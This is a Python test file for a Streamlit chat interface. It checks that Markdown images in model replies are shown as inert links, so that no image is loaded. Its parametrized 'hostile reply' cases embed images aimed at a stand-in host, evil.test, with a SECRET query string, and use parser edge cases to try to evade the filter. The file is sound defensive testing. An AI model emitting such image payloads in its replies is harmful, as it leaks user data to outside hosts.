"""Model output shown as Markdown loads no image by itself (issue 21, row 4): which `!` starts an image is decided by a
CommonMark parser reading the text as Streamlit's browser does; code stays untouched, everything else byte-identical,
and what is shown at the end of a stream equals the stored reply's rendering however the reply was cut into deltas.
The browser itself is checked in tests/browser/test_markdown_images.py."""

from __future__ import annotations

import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.config import PROJECT_ROOT
from core.ui.chat.markdown import images_as_links, stream_images_as_links
from core.ui.chat.markdown_syntax import math_enabled

EVIL = "http://evil.test/p.png?s=SECRET"

# (hostile reply, what is shown): the review's cases, then what Streamlit's renderer adds to CommonMark.
SHOWN_AS_LINKS = [
    (f"![x]({EVIL})", f"[x]({EVIL})"),
    (f"\\`![x]({EVIL})`", f"\\`[x]({EVIL})`"),  # an escaped backtick opens no code span
    (f"<http://a.test/`>![x]({EVIL})`", f"<http://a.test/`>[x]({EVIL})`"),  # nor does one inside an autolink
    (f"[![x]({EVIL})](http://l.test/)", f"[[x]({EVIL})](http://l.test/)"),  # an image inside a link's text
    (f"[a ![x]({EVIL}) b](http://l.test/)", f"[a [x]({EVIL}) b](http://l.test/)"),
    (f"![x][ref]\n\n[ref]: {EVIL}", f"[x][ref]\n\n[ref]: {EVIL}"),  # reference style
    (f"[ref]: {EVIL}\n\n![ref]", f"[ref]: {EVIL}\n\n[ref]"),
    ("![x][later]", "[x][later]"),  # a definition streamed later must not revive it
    (f"| a | b |\n|---|---|\n| ![x]({EVIL}) | c |", f"| a | b |\n|---|---|\n| [x]({EVIL}) | c |"),
    (f"- one\n- ![x]({EVIL})", f"- one\n- [x]({EVIL})"),
    (f"> ![x]({EVIL})", f"> [x]({EVIL})"),
    (f"![a [b] c]({EVIL})", f"[a [b] c]({EVIL})"),  # nested brackets
    (f"![a ![b]({EVIL})]({EVIL})", f"[a [b]({EVIL})]({EVIL})"),
    (f"!![x]({EVIL})", f"\\![x]({EVIL})"),  # the "!" before would start the image once the first is dropped
    (f"`a` ![x]({EVIL}) `b`", f"`a` [x]({EVIL}) `b`"),
    (f"| `a | ![x]({EVIL})` |\n|-|-|", f"| `a | [x]({EVIL})` |\n|-|-|"),  # a table splits code at each "|"
    (f"    ![x]({EVIL})", f"    [x]({EVIL})"),  # st.markdown dedents: this is no code block in the browser
    (f"![x](not a destination)\n\n[x]: {EVIL}", f"[x](not a destination)\n\n[x]: {EVIL}"),
    (f"[a](x ![ref]\n\n[ref]: {EVIL}", f"[a](x [ref]\n\n[ref]: {EVIL}"),
    (f":red[`] ![x]({EVIL}) `", f":red[`] [x]({EVIL}) `"),  # a directive's label swallows the backtick
    (f':x[a]{{b="`"}} ![x]({EVIL}) `', f':x[a]{{b="`"}} [x]({EVIL}) `'),  # ... and its attributes
    (f'::x[a]{{b="`"}}\n![x]({EVIL}) `', f'::x[a]{{b="`"}}\n[x]({EVIL}) `'),
    (f"www.a.test/`b ![x]({EVIL}) `", f"www.a.test/`b [x]({EVIL}) `"),  # GitHub's literal links swallow it too
    (f"https://a.test/`b ![x]({EVIL}) `", f"https://a.test/`b [x]({EVIL}) `"),
    (f"$$\n`\n$$\n![x]({EVIL})\n`", f"$$\n`\n$$\n[x]({EVIL})\n`"),  # so does math
    (f"$x$ $a`b$ ![x]({EVIL}) `", f"$x$ $a`b$ [x]({EVIL}) `"),
    (f"ref[^1]\n\n[^1]: ![x]({EVIL})", f"ref[^1]\n\n[^1]: [x]({EVIL})"),  # a footnote's text is Markdown
    (f"ref[^1]\n\n[^1]: text\n    ![x]({EVIL})", f"ref[^1]\n\n[^1]: text\n    [x]({EVIL})"),
    (f"a<!-- `:![y]\\`--->![x]({EVIL}) -->", f"a<!-- `:![y]\\`--->[x]({EVIL}) -->"),  # a comment ends at the first -->
    ("> " * 60 + f"![x]({EVIL})", "> " * 60 + f"[x]({EVIL})"),  # deeper than the parser follows
    (f"A\n|-|\n![x]({EVIL}) `\n\n`", f"A\n|-|\n[x]({EVIL}) `\n\n`"),  # a header row needs no "|" in the browser
]

UNTOUCHED = [
    f"`![x]({EVIL})`",
    f"``a ` ![x]({EVIL}) ``",
    f"```\n![x]({EVIL})\n```",
    f"~~~md\n![x]({EVIL})\n~~~",
    f"- item\n\n  ```\n  ![x]({EVIL})\n  ```",
    f"\\![x]({EVIL})",  # an escaped "!" starts nothing
    f"&#33;[x]({EVIL})",
    f'<img src="{EVIL}">',  # HTML is shown as text (st.markdown without unsafe_allow_html): nothing to do
    f"$5 and `$10` <{EVIL}> [link]({EVIL}) **bold** 한국어 😀",
    f"$`$ ![x]({EVIL}) `",  # no math here for Streamlit: the code span stands
    f"![y][[x]]\n\n[y]: {EVIL}",  # not an image for the browser either
]


@pytest.mark.parametrize(("reply", "shown"), SHOWN_AS_LINKS)
def test_r2_row04_every_image_is_shown_as_a_link(reply: str, shown: str) -> None:
    assert images_as_links(reply) == shown
    assert images_as_links(shown) == shown  # nothing left that any reading takes for an image


@pytest.mark.parametrize("reply", UNTOUCHED)
def test_r2_row04_code_and_non_images_are_untouched(reply: str) -> None:
    assert images_as_links(reply) == reply


def test_r2_row04_math_is_on_only_where_streamlit_turns_it_on() -> None:
    assert math_enabled("$x$") and math_enabled("$$\na\n$$") and math_enabled("$a`b$ c")
    assert not math_enabled("$$\nno closing") and not math_enabled("$5 and $10") and not math_enabled("`$x$`")


_FRAGMENTS = ["![x](http://e.test/i.png)", "![y]", "[y]: http://e.test/r\n", "`", "``", "```\n", "\\", "[", "]", "(",
              ")", "<", ">", "a", " ", "\n", "\n\n", "|", "|-|\n", "-", "*", "$", "$$", ":red[", '{a="`"}', "www.a.b/",
              "https://a.b/", "<!--", "-->", "    ", "> ", "- ", "[^1]: ", "!", "한국어", "😀", "&#33;",
              unicodedata.normalize("NFD", "한글")]  # decomposed Hangul: one syllable is several code points
replies = st.lists(st.sampled_from(_FRAGMENTS), max_size=24).map("".join)


def _only_images_changed(reply: str, shown: str) -> bool:
    """shown is reply with some "!" dropped (and a backslash put before a "!" it kept): nothing else differs."""
    at = dropped = added = 0
    for char in shown:
        while at < len(reply) and reply[at] != char and reply[at] == "!" and char != "\\":
            at, dropped = at + 1, dropped + 1
        if at < len(reply) and reply[at] == char:
            at += 1
        elif char == "\\" and reply[at:at + 1] == "!":
            added += 1
        else:
            return False
    dropped += reply.count("!", at)
    return at + reply.count("!", at) == len(reply) and added <= dropped


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(replies)
def test_r2_row04_only_image_marks_change_and_none_survive(reply: str) -> None:
    shown = images_as_links(reply)
    assert images_as_links(shown) == shown
    if "![" not in reply:
        assert shown == reply
    assert _only_images_changed(reply, shown)


def _cut(text: str, cuts: list[int]) -> list[str]:
    points = sorted({c % (len(text) + 1) for c in cuts} | {0, len(text)})
    return [text[a:b] for a, b in zip(points, points[1:], strict=False)]


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(replies, st.lists(st.integers(min_value=0, max_value=10_000), max_size=12), st.booleans())
def test_r2_row04_the_end_of_a_stream_shows_the_stored_reply_however_cut(reply: str, cuts: list[int],
                                                                          one_by_one: bool) -> None:
    deltas = list(reply) if one_by_one else _cut(reply, cuts)
    snapshots = list(stream_images_as_links(deltas, every=0))
    assert (snapshots[-1] if snapshots else "") == images_as_links(reply)
    assert all(images_as_links(s) == s for s in snapshots)  # no image while it streams either


def test_r2_row04_one_character_deltas_do_not_stop_early() -> None:
    reply = f"Look \\`![x]({EVIL}) and ``![code](kept)`` then 한국어 ![y]({EVIL}) done!"
    shown = list(stream_images_as_links(list(reply), every=0))
    assert shown[-1] == images_as_links(reply) == reply.replace("\\`![x]", "\\`[x]").replace(" ![y]", " [y]")
    korean = list(stream_images_as_links(list(unicodedata.normalize("NFD", "이미지 ![x](u) 끝")), every=0))
    assert korean[-1] == unicodedata.normalize("NFD", "이미지 [x](u) 끝")


def test_r2_row04_markdown_it_is_a_pinned_direct_dependency() -> None:
    direct = (PROJECT_ROOT / "requirements.in").read_text()
    pinned = (PROJECT_ROOT / "requirements.txt").read_text()
    assert re.search(r"^markdown-it-py==[0-9.]+$", direct, re.MULTILINE)
    assert re.search(r"^markdown-it-py==[0-9.]+$", pinned, re.MULTILINE)
    assert re.search(r"^mdurl==[0-9.]+$", pinned, re.MULTILINE)


def test_r2_row04_chat_streams_without_write_stream() -> None:
    # st.write_stream has the browser complete unfinished Markdown (remend): it can cut text and revive an image.
    composer = Path(PROJECT_ROOT / "core/ui/chat/composer.py").read_text()
    assert "st.write_stream(" not in composer and "stream_images_as_links(" in composer


def test_r2_row04_a_bracket_bomb_is_shown_safely_without_parsing() -> None:
    # markdown-it scans from every "[" to the end of its paragraph: past a bound the paragraph is not parsed, and
    # every "![" in it is shown as a link (code spans too), so such a reply costs milliseconds, not minutes.
    bomb = "[" * 20_000 + f"`![x]({EVIL})` ![y]({EVIL})"
    assert images_as_links(bomb) == bomb.replace("![", "[")
    assert images_as_links("![" * 10_000) == "[" * 10_000
